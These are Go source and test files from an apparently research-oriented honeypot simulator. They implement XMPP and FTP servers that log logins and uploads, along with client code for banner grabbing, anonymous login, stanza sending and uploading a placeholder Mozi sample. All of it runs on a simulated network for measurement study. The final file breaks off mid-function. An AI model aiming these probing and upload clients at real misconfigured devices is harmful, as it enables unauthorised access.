// Standard XMPP ports.
const (
	ClientPort uint16 = 5222
	ServerPort uint16 = 5269
)

// Features is what a server advertises in <stream:features>.
type Features struct {
	// Mechanisms lists SASL mechanisms ("PLAIN", "ANONYMOUS", "SCRAM-SHA-1").
	Mechanisms []string
	// RequireTLS advertises <starttls><required/></starttls>: the secure
	// configuration the misconfigured population lacks.
	RequireTLS bool
	// Domain is the server's JID domain.
	Domain string
	// Software identifies the implementation in the stream id prefix.
	Software string
}

// StreamOpen renders the client's stream header for a domain.
func StreamOpen(domain string) string {
	return `<?xml version='1.0'?><stream:stream to='` + xmlEscape(domain) +
		`' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>`
}

// StreamResponse renders the server's stream header plus features element —
// the banner the scanner's classifier parses.
func StreamResponse(f Features, streamID string) string {
	var b strings.Builder
	b.WriteString(`<?xml version='1.0'?><stream:stream from='` + xmlEscape(f.Domain) +
		`' id='` + xmlEscape(streamID) +
		`' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>`)
	b.WriteString(`<stream:features>`)
	if f.RequireTLS {
		b.WriteString(`<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'><required/></starttls>`)
	}
	b.WriteString(`<mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'>`)
	for _, m := range f.Mechanisms {
		b.WriteString(`<mechanism>` + xmlEscape(m) + `</mechanism>`)
	}
	b.WriteString(`</mechanisms></stream:features>`)
	return b.String()
}

// ParseFeatures extracts the advertised mechanisms and TLS requirement from
// a server banner. It is a tolerant substring parser: scan banners are
// frequently truncated and never schema-valid.
func ParseFeatures(banner string) Features {
	var f Features
	f.RequireTLS = strings.Contains(banner, "<required/>") &&
		strings.Contains(banner, "starttls")
	rest := banner
	for {
		start := strings.Index(rest, "<mechanism>")
		if start < 0 {
			break
		}
		rest = rest[start+len("<mechanism>"):]
		end := strings.Index(rest, "</mechanism>")
		if end < 0 {
			break
		}
		f.Mechanisms = append(f.Mechanisms, rest[:end])
		rest = rest[end:]
	}
	if i := strings.Index(banner, "from='"); i >= 0 {
		tail := banner[i+len("from='"):]
		if j := strings.IndexByte(tail, '\''); j >= 0 {
			f.Domain = tail[:j]
		}
	}
	return f
}

// HasMechanism reports whether the features advertise mech.
func (f Features) HasMechanism(mech string) bool {
	for _, m := range f.Mechanisms {
		if strings.EqualFold(m, mech) {
			return true
		}
	}
	return false
}

// AuthRequest renders a SASL <auth> element. PLAIN carries
// base64(\x00user\x00pass); ANONYMOUS carries no initial response.
func AuthRequest(mechanism, user, pass string) string {
	switch strings.ToUpper(mechanism) {
	case "PLAIN":
		payload := base64.StdEncoding.EncodeToString([]byte("\x00" + user + "\x00" + pass))
		return `<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>` + payload + `</auth>`
	case "ANONYMOUS":
		return `<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='ANONYMOUS'/>`
	default:
		return `<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='` + xmlEscape(mechanism) + `'/>`
	}
}

// ParseAuth extracts mechanism and PLAIN credentials from an <auth> element.
func ParseAuth(element string) (mechanism, user, pass string, err error) {
	i := strings.Index(element, "mechanism='")
	if i < 0 {
		return "", "", "", fmt.Errorf("xmpp: no mechanism attribute")
	}
	tail := element[i+len("mechanism='"):]
	j := strings.IndexByte(tail, '\'')
	if j < 0 {
		return "", "", "", fmt.Errorf("xmpp: unterminated mechanism attribute")
	}
	mechanism = tail[:j]
	if strings.EqualFold(mechanism, "PLAIN") {
		open := strings.IndexByte(element, '>')
		close := strings.Index(element, "</auth>")
		if open >= 0 && close > open {
			raw, decErr := base64.StdEncoding.DecodeString(element[open+1 : close])
			if decErr == nil {
				parts := strings.Split(string(raw), "\x00")
				if len(parts) == 3 {
					user, pass = parts[1], parts[2]
				}
			}
		}
	}
	return mechanism, user, pass, nil
}

// Success and failure elements.
const (
	SASLSuccess = `<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>`
	SASLFailure = `<failure xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><not-authorized/></failure>`
)

var xmlEscaper = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;", `"`, "&quot;")

func xmlEscape(s string) string {
	return xmlEscaper.Replace(s)
}
