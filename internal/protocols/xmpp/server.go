package xmpp

import (
	"bufio"
	"context"
	"fmt"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// EventKind classifies server-side observations.
type EventKind uint8

// Server event kinds.
const (
	EventStreamOpen EventKind = iota
	EventAuthAttempt
	EventStanza // post-auth stanza (IQ/message/presence)
)

// Event is one server observation; ThingPot-style honeypots log these.
type Event struct {
	Time      time.Time
	Kind      EventKind
	Remote    netsim.IPv4
	Mechanism string
	Username  string
	Password  string
	Success   bool
	Stanza    string
}

// ServerConfig configures the XMPP endpoint.
type ServerConfig struct {
	Features Features
	// Credentials maps username → password for PLAIN.
	Credentials map[string]string
	// AllowAnonymous admits ANONYMOUS binds — the Table 5 misconfiguration.
	AllowAnonymous bool
	// OnEvent, when non-nil, receives observations.
	OnEvent func(Event)
	// StanzaHandler, when non-nil, produces responses to post-auth stanzas.
	// The ThingPot Philips Hue profile implements light-state queries here.
	StanzaHandler func(stanza string) string
}

// Server implements netsim.StreamHandler for an XMPP endpoint.
type Server struct {
	cfg ServerConfig
}

// NewServer builds a Server.
func NewServer(cfg ServerConfig) *Server {
	if cfg.Features.Domain == "" {
		cfg.Features.Domain = "device.local"
	}
	if len(cfg.Features.Mechanisms) == 0 {
		cfg.Features.Mechanisms = []string{"PLAIN"}
	}
	return &Server{cfg: cfg}
}

func (s *Server) emit(ev Event) {
	if s.cfg.OnEvent != nil {
		s.cfg.OnEvent(ev)
	}
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	remote, _ := netsim.RemoteIPv4(conn)
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)

	// Wait for the client's stream header.
	if _, err := readElement(r, ">"); err != nil {
		return
	}
	s.emit(Event{Time: conn.DialTime, Kind: EventStreamOpen, Remote: remote})
	streamID := fmt.Sprintf("%s-%08x", s.cfg.Features.Software, uint32(remote))
	if _, err := conn.Write([]byte(StreamResponse(s.cfg.Features, streamID))); err != nil {
		return
	}

	// SASL exchange.
	authed := false
	for !authed {
		el, err := readElement(r, "</auth>", "/>")
		if err != nil {
			return
		}
		if !strings.Contains(el, "<auth") {
			continue
		}
		mech, user, pass, err := ParseAuth(el)
		if err != nil {
			_, _ = conn.Write([]byte(SASLFailure))
			continue
		}
		ok := false
		switch strings.ToUpper(mech) {
		case "ANONYMOUS":
			ok = s.cfg.AllowAnonymous
		case "PLAIN":
			want, exists := s.cfg.Credentials[user]
			ok = exists && want == pass
		}
		s.emit(Event{Time: conn.DialTime, Kind: EventAuthAttempt, Remote: remote,
			Mechanism: mech, Username: user, Password: pass, Success: ok})
		if ok {
			_, _ = conn.Write([]byte(SASLSuccess))
			authed = true
		} else {
			if _, err := conn.Write([]byte(SASLFailure)); err != nil {
				return
			}
		}
	}

	// Post-auth stanza loop.
	for i := 0; i < 64; i++ {
		el, err := readElement(r, "/>", "</iq>", "</message>", "</presence>", "</stream:stream>")
		if err != nil {
			return
		}
		if strings.Contains(el, "</stream:stream>") {
			_, _ = conn.Write([]byte("</stream:stream>"))
			return
		}
		s.emit(Event{Time: conn.DialTime, Kind: EventStanza, Remote: remote, Stanza: el})
		if s.cfg.StanzaHandler != nil {
			if resp := s.cfg.StanzaHandler(el); resp != "" {
				if _, err := conn.Write([]byte(resp)); err != nil {
					return
				}
			}
		}
	}
}

// readElement accumulates bytes until any terminator appears. XMPP is a
// stream of XML fragments; exact parsing is unnecessary for the study.
func readElement(r *bufio.Reader, terminators ...string) (string, error) {
	var sb strings.Builder
	for sb.Len() < 64<<10 {
		b, err := r.ReadByte()
		if err != nil {
			return sb.String(), err
		}
		sb.WriteByte(b)
		s := sb.String()
		for _, term := range terminators {
			if strings.HasSuffix(s, term) {
				return s, nil
			}
		}
	}
	return sb.String(), fmt.Errorf("xmpp: element too large")
}
