package xmpp

import (
	"net"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// ProbeBanner performs the paper's XMPP banner grab: open a stream, read the
// server's stream header and features, and return the raw banner plus the
// parsed features without authenticating.
func ProbeBanner(conn net.Conn, domain string, timeout time.Duration) (string, Features, error) {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write([]byte(StreamOpen(domain))); err != nil {
		return "", Features{}, err
	}
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)
	banner, err := readElement(r, "</stream:features>")
	if err != nil && banner == "" {
		return "", Features{}, err
	}
	return banner, ParseFeatures(banner), nil
}

// Authenticate performs the SASL exchange after ProbeBanner on the same
// connection. It reports whether the server accepted.
func Authenticate(conn net.Conn, mechanism, user, pass string, timeout time.Duration) (bool, error) {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write([]byte(AuthRequest(mechanism, user, pass))); err != nil {
		return false, err
	}
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)
	resp, err := readElement(r, "/>")
	if err != nil {
		return false, err
	}
	return strings.Contains(resp, "<success"), nil
}

// SendStanza writes a stanza and collects a response if one arrives within
// the window. Attack actors use this to poke at device state (the Hue
// light-toggle attempts in Section 5.1.2).
func SendStanza(conn net.Conn, stanza string, window time.Duration) (string, error) {
	if window <= 0 {
		window = time.Second
	}
	_ = conn.SetWriteDeadline(time.Now().Add(window))
	if _, err := conn.Write([]byte(stanza)); err != nil {
		return "", err
	}
	_ = conn.SetReadDeadline(time.Now().Add(window))
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)
	resp, err := readElement(r, "/>", "</iq>", "</message>")
	if err != nil && resp == "" {
		return "", err
	}
	return resp, nil
}
