package xmpp

import (
	"context"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"openhire/internal/netsim"
)

func TestStreamResponseAndParseFeatures(t *testing.T) {
	f := Features{
		Mechanisms: []string{"PLAIN", "ANONYMOUS"},
		RequireTLS: false,
		Domain:     "hue-bridge.local",
		Software:   "prosody",
	}
	banner := StreamResponse(f, "abc123")
	got := ParseFeatures(banner)
	if !got.HasMechanism("PLAIN") || !got.HasMechanism("ANONYMOUS") {
		t.Fatalf("mechanisms %v", got.Mechanisms)
	}
	if got.RequireTLS {
		t.Fatal("RequireTLS parsed true")
	}
	if got.Domain != "hue-bridge.local" {
		t.Fatalf("domain %q", got.Domain)
	}
}

func TestParseFeaturesTLSRequired(t *testing.T) {
	banner := StreamResponse(Features{Mechanisms: []string{"SCRAM-SHA-1"}, RequireTLS: true, Domain: "d"}, "id")
	got := ParseFeatures(banner)
	if !got.RequireTLS {
		t.Fatal("RequireTLS not detected")
	}
	if got.HasMechanism("PLAIN") {
		t.Fatal("phantom PLAIN")
	}
}

func TestParseFeaturesTruncatedBanner(t *testing.T) {
	banner := "<stream:features><mechanisms><mechanism>PLAIN</mechanism><mechan"
	got := ParseFeatures(banner)
	if len(got.Mechanisms) != 1 || got.Mechanisms[0] != "PLAIN" {
		t.Fatalf("mechanisms %v", got.Mechanisms)
	}
}

func TestParseFeaturesFuzzNoPanic(t *testing.T) {
	if err := quick.Check(func(s string) bool {
		_ = ParseFeatures(s)
		return true
	}, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestAuthRequestRoundTrip(t *testing.T) {
	mech, user, pass, err := ParseAuth(AuthRequest("PLAIN", "admin", "hue123"))
	if err != nil {
		t.Fatal(err)
	}
	if mech != "PLAIN" || user != "admin" || pass != "hue123" {
		t.Fatalf("got %q %q %q", mech, user, pass)
	}
	mech, user, _, err = ParseAuth(AuthRequest("ANONYMOUS", "", ""))
	if err != nil || mech != "ANONYMOUS" || user != "" {
		t.Fatalf("anonymous: %q %q %v", mech, user, err)
	}
}

func TestParseAuthErrors(t *testing.T) {
	if _, _, _, err := ParseAuth("<auth xmlns='x'/>"); err == nil {
		t.Fatal("no mechanism accepted")
	}
	if _, _, _, err := ParseAuth("<auth mechanism='PLAIN"); err == nil {
		t.Fatal("unterminated attribute accepted")
	}
}

func startServer(t *testing.T, cfg ServerConfig) (*netsim.ServiceConn, func()) {
	t.Helper()
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.80"), Port: 43000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.4"), Port: 5222},
		time.Now(),
	)
	srv := NewServer(cfg)
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	return client, func() { client.Close(); <-done }
}

func TestProbeBannerAgainstServer(t *testing.T) {
	client, closeFn := startServer(t, ServerConfig{
		Features: Features{Mechanisms: []string{"PLAIN", "ANONYMOUS"}, Domain: "philips-hue"},
	})
	defer closeFn()
	banner, feats, err := ProbeBanner(client, "philips-hue", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(banner, "<mechanism>ANONYMOUS</mechanism>") {
		t.Fatalf("banner %q", banner)
	}
	if !feats.HasMechanism("anonymous") {
		t.Fatal("case-insensitive HasMechanism failed")
	}
}

func TestAnonymousLoginWhenAllowed(t *testing.T) {
	var events []Event
	client, closeFn := startServer(t, ServerConfig{
		Features:       Features{Mechanisms: []string{"PLAIN", "ANONYMOUS"}, Domain: "d"},
		AllowAnonymous: true,
		OnEvent:        func(ev Event) { events = append(events, ev) },
	})
	defer closeFn()
	if _, _, err := ProbeBanner(client, "d", time.Second); err != nil {
		t.Fatal(err)
	}
	ok, err := Authenticate(client, "ANONYMOUS", "", "", time.Second)
	if err != nil || !ok {
		t.Fatalf("Authenticate = %v, %v", ok, err)
	}
	found := false
	for _, ev := range events {
		if ev.Kind == EventAuthAttempt && ev.Mechanism == "ANONYMOUS" && ev.Success {
			found = true
		}
	}
	if !found {
		t.Fatalf("auth event missing: %+v", events)
	}
}

func TestAnonymousRejectedWhenDisallowed(t *testing.T) {
	client, closeFn := startServer(t, ServerConfig{
		Features: Features{Mechanisms: []string{"PLAIN"}, Domain: "d"},
	})
	defer closeFn()
	if _, _, err := ProbeBanner(client, "d", time.Second); err != nil {
		t.Fatal(err)
	}
	ok, err := Authenticate(client, "ANONYMOUS", "", "", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if ok {
		t.Fatal("anonymous accepted")
	}
}

func TestPlainCredentials(t *testing.T) {
	client, closeFn := startServer(t, ServerConfig{
		Features:    Features{Mechanisms: []string{"PLAIN"}, Domain: "d"},
		Credentials: map[string]string{"hue": "bridge"},
	})
	defer closeFn()
	if _, _, err := ProbeBanner(client, "d", time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := Authenticate(client, "PLAIN", "hue", "wrong", time.Second); ok {
		t.Fatal("wrong password accepted")
	}
	if ok, err := Authenticate(client, "PLAIN", "hue", "bridge", time.Second); err != nil || !ok {
		t.Fatalf("correct password rejected: %v, %v", ok, err)
	}
}

func TestStanzaHandler(t *testing.T) {
	client, closeFn := startServer(t, ServerConfig{
		Features:       Features{Mechanisms: []string{"ANONYMOUS"}, Domain: "hue"},
		AllowAnonymous: true,
		StanzaHandler: func(stanza string) string {
			if strings.Contains(stanza, "lights") {
				return `<iq type='result'><lights state='on'/></iq>`
			}
			return ""
		},
	})
	defer closeFn()
	if _, _, err := ProbeBanner(client, "hue", time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := Authenticate(client, "ANONYMOUS", "", "", time.Second); !ok {
		t.Fatal("anonymous rejected")
	}
	resp, err := SendStanza(client, `<iq type='get'><lights/></iq>`, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(resp, "state='on'") {
		t.Fatalf("resp %q", resp)
	}
}

func TestXMLEscaping(t *testing.T) {
	banner := StreamResponse(Features{Mechanisms: []string{"PLA<IN"}, Domain: "a'b"}, "id")
	if strings.Contains(banner, "PLA<IN") || strings.Contains(banner, "from='a'b'") {
		t.Fatalf("unescaped banner: %q", banner)
	}
}

func BenchmarkParseFeatures(b *testing.B) {
	banner := StreamResponse(Features{Mechanisms: []string{"PLAIN", "ANONYMOUS", "SCRAM-SHA-1"}, Domain: "d"}, "id")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = ParseFeatures(banner)
	}
}
