package ftp

import (
	"strings"
	"testing"
	"time"
)

func TestSystPwdList(t *testing.T) {
	c, _ := startServer(t, Config{
		AllowAnonymous: true,
		Files:          map[string][]byte{"firmware.bin": []byte("x"), "config.txt": []byte("y")},
	})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := c.Login("anonymous", "", time.Second); !ok {
		t.Fatal("login failed")
	}
	if err := c.send("SYST", time.Second); err != nil {
		t.Fatal(err)
	}
	if reply, _ := c.ReadReply(time.Second); !strings.HasPrefix(reply, "215") {
		t.Fatalf("SYST reply %q", reply)
	}
	if err := c.send("PWD", time.Second); err != nil {
		t.Fatal(err)
	}
	if reply, _ := c.ReadReply(time.Second); !strings.HasPrefix(reply, "257") {
		t.Fatalf("PWD reply %q", reply)
	}
	if err := c.send("LIST", time.Second); err != nil {
		t.Fatal(err)
	}
	var sawFile, sawEnd bool
	for i := 0; i < 6; i++ {
		reply, err := c.ReadReply(time.Second)
		if err != nil {
			break
		}
		if strings.Contains(reply, "firmware.bin") {
			sawFile = true
		}
		if strings.HasPrefix(reply, "226") {
			sawEnd = true
			break
		}
	}
	if !sawFile || !sawEnd {
		t.Fatalf("LIST incomplete: file=%v end=%v", sawFile, sawEnd)
	}
}

func TestListRequiresLogin(t *testing.T) {
	c, _ := startServer(t, Config{AllowAnonymous: true})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	if err := c.send("LIST", time.Second); err != nil {
		t.Fatal(err)
	}
	if reply, _ := c.ReadReply(time.Second); !strings.HasPrefix(reply, "530") {
		t.Fatalf("unauthenticated LIST reply %q", reply)
	}
}

func TestUploadSizeLimit(t *testing.T) {
	c, events := startServer(t, Config{
		AllowAnonymous: true, AllowWrite: true, MaxUploadBytes: 64,
	})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := c.Login("anonymous", "", time.Second); !ok {
		t.Fatal("login failed")
	}
	ok, err := c.Store("big.bin", make([]byte, 1024), time.Second)
	if err == nil && ok {
		t.Fatal("oversized upload accepted")
	}
	select {
	case ev := <-events:
		if len(ev.Uploads) != 0 {
			t.Fatal("oversized upload recorded")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("session did not end")
	}
}

func TestQuitEvent(t *testing.T) {
	c, events := startServer(t, Config{})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	c.Quit(time.Second)
	select {
	case ev := <-events:
		if len(ev.Commands) != 1 || ev.Commands[0] != "QUIT" {
			t.Fatalf("commands %v", ev.Commands)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}
