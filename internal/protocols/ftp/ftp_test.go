package ftp

import (
	"context"
	"strings"
	"testing"
	"time"

	"openhire/internal/netsim"
)

func startServer(t *testing.T, cfg Config) (*Client, <-chan Event) {
	t.Helper()
	events := make(chan Event, 1)
	prev := cfg.OnEvent
	cfg.OnEvent = func(ev Event) {
		if prev != nil {
			prev(ev)
		}
		events <- ev
	}
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.92"), Port: 46000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.7"), Port: 21},
		time.Now(),
	)
	srv := NewServer(cfg)
	go func() {
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	t.Cleanup(func() { client.Close() })
	return NewClient(client), events
}

func TestBannerAndAnonymousLogin(t *testing.T) {
	c, _ := startServer(t, Config{Banner: "220 (vsFTPd 2.3.4)", AllowAnonymous: true})
	banner, err := c.ReadReply(time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if banner != "220 (vsFTPd 2.3.4)" {
		t.Fatalf("banner %q", banner)
	}
	ok, err := c.Login("anonymous", "probe@example.com", time.Second)
	if err != nil || !ok {
		t.Fatalf("anonymous login = %v, %v", ok, err)
	}
}

func TestAnonymousRejectedWhenDisabled(t *testing.T) {
	c, _ := startServer(t, Config{})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	ok, err := c.Login("anonymous", "x", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if ok {
		t.Fatal("anonymous accepted")
	}
}

func TestCredentialLogin(t *testing.T) {
	c, _ := startServer(t, Config{Credentials: map[string]string{"iot": "cam123"}})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := c.Login("iot", "bad", time.Second); ok {
		t.Fatal("bad password accepted")
	}
	if ok, _ := c.Login("iot", "cam123", time.Second); !ok {
		t.Fatal("good password rejected")
	}
}

func TestMalwareUploadCaptured(t *testing.T) {
	c, events := startServer(t, Config{AllowAnonymous: true, AllowWrite: true})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := c.Login("anonymous", "", time.Second); !ok {
		t.Fatal("login failed")
	}
	payload := []byte("\x7fELF mozi-sample-bytes")
	ok, err := c.Store("mozi.arm7", payload, time.Second)
	if err != nil || !ok {
		t.Fatalf("Store = %v, %v", ok, err)
	}
	c.Quit(time.Second)
	select {
	case ev := <-events:
		if len(ev.Uploads) != 1 || ev.Uploads[0].Name != "mozi.arm7" ||
			string(ev.Uploads[0].Data) != string(payload) {
			t.Fatalf("uploads %+v", ev.Uploads)
		}
		if !ev.LoginOK {
			t.Fatal("LoginOK false")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}

func TestStoreDeniedWithoutWrite(t *testing.T) {
	c, _ := startServer(t, Config{AllowAnonymous: true})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := c.Login("anonymous", "", time.Second); !ok {
		t.Fatal("login failed")
	}
	ok, err := c.Store("x.bin", []byte("data"), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if ok {
		t.Fatal("write accepted without AllowWrite")
	}
}

func TestCommandsLoggedAndUnknownCommand(t *testing.T) {
	c, events := startServer(t, Config{AllowAnonymous: true})
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	if err := c.send("HACK the planet", time.Second); err != nil {
		t.Fatal(err)
	}
	reply, err := c.ReadReply(time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(reply, "502") {
		t.Fatalf("reply %q", reply)
	}
	c.Quit(time.Second)
	select {
	case ev := <-events:
		if len(ev.Commands) == 0 || !strings.HasPrefix(ev.Commands[0], "HACK") {
			t.Fatalf("commands %v", ev.Commands)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}
