// Package ftp implements the FTP control-channel conversation the Dionaea
// honeypot profile needs: USER/PASS authentication (including anonymous),
// directory listing, and STOR uploads so malware deployments are captured
// (the paper's honeypots received Mozi and Lokibot binaries over FTP,
// Section 5.1.5).
//
// Data transfers use a simplified inline mode: STOR is followed by a
// length-prefixed upload on the control connection. The observable the
// study depends on — the uploaded bytes, hashed and checked against the
// threat database — is unchanged; separate PORT/PASV data channels add no
// measurement value in the simulation.
package ftp

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// Port is the FTP control port.
const Port uint16 = 21

// Event logs one FTP session.
type Event struct {
	Time     time.Time
	Remote   netsim.IPv4
	Username string
	Password string
	LoginOK  bool
	Uploads  []Upload
	Commands []string
}

// Upload records one STOR transfer.
type Upload struct {
	Name string
	Data []byte
}

// Config describes an FTP endpoint.
type Config struct {
	// Banner is the 220 greeting ("220 (vsFTPd 2.3.4)").
	Banner string
	// AllowAnonymous admits USER anonymous — the Springall et al. [74]
	// misconfiguration this paper's methodology descends from.
	AllowAnonymous bool
	// Credentials maps username → password.
	Credentials map[string]string
	// AllowWrite admits STOR for authenticated users.
	AllowWrite bool
	// Files maps names to contents for LIST/RETR.
	Files map[string][]byte
	// OnEvent receives the session record at close.
	OnEvent func(Event)
	// MaxUploadBytes bounds one STOR (0 = 1 MiB).
	MaxUploadBytes int
}

// Server implements netsim.StreamHandler.
type Server struct {
	cfg Config
}

// NewServer builds a Server.
func NewServer(cfg Config) *Server {
	if cfg.Banner == "" {
		cfg.Banner = "220 (vsFTPd 3.0.3)"
	}
	if cfg.MaxUploadBytes == 0 {
		cfg.MaxUploadBytes = 1 << 20
	}
	return &Server{cfg: cfg}
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	remote, _ := netsim.RemoteIPv4(conn)
	ev := Event{Time: conn.DialTime, Remote: remote}
	defer func() {
		if s.cfg.OnEvent != nil {
			s.cfg.OnEvent(ev)
		}
	}()
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	w := netsim.GetWriter(conn)
	defer netsim.PutWriter(w)
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)
	reply := func(line string) bool {
		_, _ = w.WriteString(line + "\r\n")
		return w.Flush() == nil
	}
	if !reply(s.cfg.Banner) {
		return
	}

	authed := false
	var pendingUser string
	for len(ev.Commands) < 128 {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		ev.Commands = append(ev.Commands, line)
		verb, arg := splitCommand(line)
		switch verb {
		case "USER":
			pendingUser = arg
			if !reply("331 Please specify the password.") {
				return
			}
		case "PASS":
			ev.Username, ev.Password = pendingUser, arg
			switch {
			case strings.EqualFold(pendingUser, "anonymous") && s.cfg.AllowAnonymous:
				authed = true
			case s.cfg.Credentials[pendingUser] == arg && pendingUser != "":
				if _, exists := s.cfg.Credentials[pendingUser]; exists {
					authed = true
				}
			}
			ev.LoginOK = authed
			if authed {
				if !reply("230 Login successful.") {
					return
				}
			} else if !reply("530 Login incorrect.") {
				return
			}
		case "SYST":
			if !reply("215 UNIX Type: L8") {
				return
			}
		case "PWD":
			if !reply(`257 "/" is the current directory`) {
				return
			}
		case "LIST", "NLST":
			if !authed {
				if !reply("530 Please login with USER and PASS.") {
					return
				}
				continue
			}
			var names []string
			for name := range s.cfg.Files {
				names = append(names, name)
			}
			if !reply("150 Here comes the directory listing.") {
				return
			}
			for _, n := range names {
				if !reply(n) {
					return
				}
			}
			if !reply("226 Directory send OK.") {
				return
			}
		case "STOR":
			if !authed || !s.cfg.AllowWrite {
				if !reply("550 Permission denied.") {
					return
				}
				continue
			}
			if !reply("150 Ok to send data.") {
				return
			}
			data, err := readInlineUpload(r, s.cfg.MaxUploadBytes)
			if err != nil {
				_ = reply("426 Connection closed; transfer aborted.")
				return
			}
			ev.Uploads = append(ev.Uploads, Upload{Name: arg, Data: data})
			if !reply("226 Transfer complete.") {
				return
			}
		case "QUIT":
			_ = reply("221 Goodbye.")
			return
		default:
			if !reply("502 Command not implemented.") {
				return
			}
		}
	}
}

func splitCommand(line string) (verb, arg string) {
	sp := strings.IndexByte(line, ' ')
	if sp < 0 {
		return strings.ToUpper(line), ""
	}
	return strings.ToUpper(line[:sp]), strings.TrimSpace(line[sp+1:])
}

// readInlineUpload reads "<n>\n" then n raw bytes.
func readInlineUpload(r *bufio.Reader, max int) ([]byte, error) {
	line, err := r.ReadString('\n')
	if err != nil {
		return nil, err
	}
	n, err := strconv.Atoi(strings.TrimSpace(line))
	if err != nil || n < 0 || n > max {
		return nil, fmt.Errorf("ftp: bad inline upload size %q", strings.TrimSpace(line))
	}
	data := make([]byte, n)
	if _, err := io.ReadFull(r, data); err != nil {
		return nil, err
	}
	return data, nil
}

// Client drives an FTP session for scan probes and attack actors.
type Client struct {
	conn net.Conn
	r    *bufio.Reader
}

// NewClient wraps an established control connection.
func NewClient(conn net.Conn) *Client {
	return &Client{conn: conn, r: bufio.NewReader(conn)}
}

// ReadReply reads one server reply line.
func (c *Client) ReadReply(timeout time.Duration) (string, error) {
	_ = c.conn.SetReadDeadline(time.Now().Add(timeout))
	line, err := c.r.ReadString('\n')
	if err != nil && line == "" {
		return "", err
	}
	return strings.TrimSpace(line), nil
}

func (c *Client) send(line string, timeout time.Duration) error {
	_ = c.conn.SetWriteDeadline(time.Now().Add(timeout))
	_, err := io.WriteString(c.conn, line+"\r\n")
	return err
}

// Login performs USER/PASS and reports acceptance. Call after consuming the
// 220 banner with ReadReply.
func (c *Client) Login(user, pass string, timeout time.Duration) (bool, error) {
	if err := c.send("USER "+user, timeout); err != nil {
		return false, err
	}
	if _, err := c.ReadReply(timeout); err != nil {
		return false, err
	}
	if err := c.send("PASS "+pass, timeout); err != nil {
		return false, err
	}
	reply, err := c.ReadReply(timeout)
	if err != nil {
		return false, err
	}
	return strings.HasPrefix(reply, "230"), nil
}

// Store uploads data under name using the inline transfer mode.
func (c *Client) Store(name string, data []byte, timeout time.Duration) (bool, error) {
	if err := c.send("STOR "+name, timeout); err != nil {
		return false, err
	}
	reply, err := c.ReadReply(timeout)
	if err != nil {
		return false, err
	}
	if !strings.HasPrefix(reply, "150") {
		return false, nil
	}
	if err := c.send(strconv.Itoa(len(data)), timeout); err != nil {
		return false, err
	}
	_ = c.conn.SetWriteDeadline(time.Now().Add(timeout))
